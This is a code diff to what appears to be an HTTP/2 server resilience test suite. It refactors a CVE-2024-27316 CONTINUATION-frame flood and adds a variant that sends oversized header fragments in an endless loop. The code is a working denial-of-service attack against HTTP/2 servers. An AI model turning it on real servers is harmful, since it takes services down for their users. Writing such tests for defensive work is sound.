@@ -96,15 +96,27 @@ def hpack_garbage(port, held):
             connection.recv(1000)
 
 
+# Of a header block.
+PIECE = frames.frame(frames.CONTINUATION, 0, 1,
+                     frames.literal("x", "y" * 16000))
+
+
 @attack
 def continuation_flood(port, held):
     """CVE-2024-27316 and its kin: a header block that never ends."""
     with frames.connect(port) as connection:
         connection.sendall(frames.headers(1, frames.request_block(EXPLAIN), 0))
-        piece = frames.frame(frames.CONTINUATION, 0, 1,
-                             frames.literal("x", "y" * 16000))
         for _ in range(4000):
-            connection.sendall(piece)
+            connection.sendall(PIECE)
+
+
+@attack
+def endless_header_block(port, held):
+    """The same over one connection for as long as it lasts."""
+    with frames.connect(port) as connection:
+        connection.sendall(frames.headers(1, frames.request_block(EXPLAIN), 0))
+        while True:
+            connection.sendall(PIECE)
 
 
 @attack
